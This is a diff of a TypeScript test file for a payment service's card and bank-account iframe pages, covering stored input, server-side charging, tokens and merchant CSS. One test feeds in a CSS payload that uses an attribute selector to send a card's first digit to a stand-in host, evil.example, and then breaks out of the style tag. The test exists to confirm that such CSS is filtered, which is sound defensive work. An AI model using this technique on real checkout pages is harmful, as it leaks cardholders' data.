@@ -1,4 +1,7 @@
-/** The frame pages (T9, D13) without JavaScript: what waits, what the merchant's server does with it, and its CSS. */
+/**
+ * The frame pages (T9, D13) without JavaScript: the stored input, its processing by the merchant's server, and the
+ * merchant's CSS.
+ */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { PageCaller, SHOP, TYPED_ACCOUNT, TYPED_CARD, resultKeyIn, withoutKeys } from './page-caller.js';
 import { inProcess, TARGETS, type ServiceUnderTest } from './service-under-test.js';
@@ -23,7 +26,7 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
   });
   afterAll(() => service.close());
 
-  it('T9, T10: the card waits, the merchant’s server charges it', async () => {
+  it('T9, T10: the card is stored, and the merchant’s server charges it', async () => {
     const key = await api.key({}, RETURN);
     const kept = await pages.fill(payFrame(key), TYPED_CARD);
     expect(kept.status).toBe(200);
@@ -43,7 +46,7 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
     expect((await pages.get(payFrame(key))).status).toBe(410);
   });
 
-  it('T9: a change that is wrong takes back what waited', async () => {
+  it('T9: an invalid change clears the stored input', async () => {
     const key = await api.key({}, RETURN);
     await pages.fill(payFrame(key), TYPED_CARD);
     expect((await pages.fill(payFrame(key), { ...TYPED_CARD, CVN: '7' })).status).toBe(422);
@@ -53,7 +56,17 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
     expect((await api.server('POST', `/txns/processiframetxn/${key}`, { TxnReq: {} })).APIResponse).toEqual(SUCCESS);
   });
 
-  it('T9 with a button: the frame pays and leads to the merchant itself', async () => {
+  it('T9: without an expiry the page asks for it, and the server may add it to the stored number', async () => {
+    const key = await api.key({}, RETURN);
+    const asked = await pages.fill(payFrame(key), { ...TYPED_CARD, ExpiryDate: '' });
+    expect(asked.status).toBe(422);
+    expect(asked.html).toContain('<a href="#expiry">Enter month and year</a>');
+    const CardDetails = { ExpiryDateMonth: '11', ExpiryDateYear: '31' };
+    const sent = { TxnReq: { CardDetails } };
+    expect((await api.server('POST', `/txns/processiframetxn/${key}`, sent)).APIResponse).toEqual(SUCCESS);
+  });
+
+  it('T9 with a button: the frame itself pays and redirects to the merchant', async () => {
     const page = payFrame(await api.key({ Amount: 2_500 }, WITH_BUTTON));
     expect((await pages.get(page)).html).toContain('Pay $25.00</button>');
     const sent = await pages.fill(page, TYPED_CARD);
@@ -62,7 +75,7 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
     expect((await pages.post(page, TYPED_CARD)).status).toBe(410);
   });
 
-  it('D13, D11: a card waits and is stored', async () => {
+  it('D13, D11: the frame’s card becomes a token', async () => {
     const key = await api.addKey({ Crn1: 'customer 7' }, RETURN);
     await pages.fill(tokenFrame(key), TYPED_CARD);
     const { APIResponse, ResultKey } = await api.server('POST', `/dvtokens/iframe/add/${key}`, { DVTokenReq: {} });
@@ -70,7 +83,7 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
     expect((await api.tokenResult(ResultKey)).DVTokenResp).toMatchObject({ CardType: 'VC', Crn1: 'customer 7' });
   });
 
-  it('D13, D11: a bank account waits and is stored', async () => {
+  it('D13, D11: the frame’s bank account becomes a token', async () => {
     const key = await api.addKey({}, RETURN);
     const kept = await pages.fill(`${tokenFrame(key)}?method=bank_account`, TYPED_ACCOUNT);
     expect(kept.html).toContain('Your details are ready.');
@@ -88,7 +101,7 @@ describe.each(EVERY_WAY)('frames of $version, $target', ({ open, version }) => {
     expect((await api.tokenResult(resultKeyIn(sent))).DVTokenResp.CardDetails.ExpiryDate).toBe('1231');
   });
 
-  it('D13, D11: an update waits', async () => {
+  it('D13, D11: an update is stored and then processed', async () => {
     const { DVToken } = await api.added();
     const { AuthKey } = await api.askUpdateKey({ DVToken }, RETURN);
     await pages.fill(tokenFrame(AuthKey), TYPED_CARD);
@@ -109,7 +122,7 @@ describe('frames', () => {
   });
   afterAll(() => service.close());
 
-  it('may stand in any merchant’s page, and apply of its CSS what is allowed, by its hash', async () => {
+  it('may be framed by any merchant, and apply the allowed part of its CSS by hash', async () => {
     const CSS = 'button{color:#fff} input[value^="4"]{background:url(https://evil.example/4)} </style><script>';
     const key = await api.key({}, { ...RETURN, IframeParameters: { CSS, ShowSubmitButton: true } });
     const { headers, html } = await pages.get(`/webapi/v3/txns/iframe/${key}`);
@@ -127,7 +140,7 @@ describe('frames', () => {
     expect((await pages.get(`/pay/DEMOSHOP?in_pay_token=${key}`)).html).not.toContain('<style>');
   });
 
-  it('the script of the page is told in JSON what became of its form, and nothing secret', async () => {
+  it('the page’s script gets the result of its form as JSON, without secrets', async () => {
     const key = await api.key({}, RETURN);
     const frame = `/webapi/v3/txns/iframe/${key}`;
     expect(await pages.postForJson(frame, TYPED_CARD)).toEqual({ outcome: 'kept' });
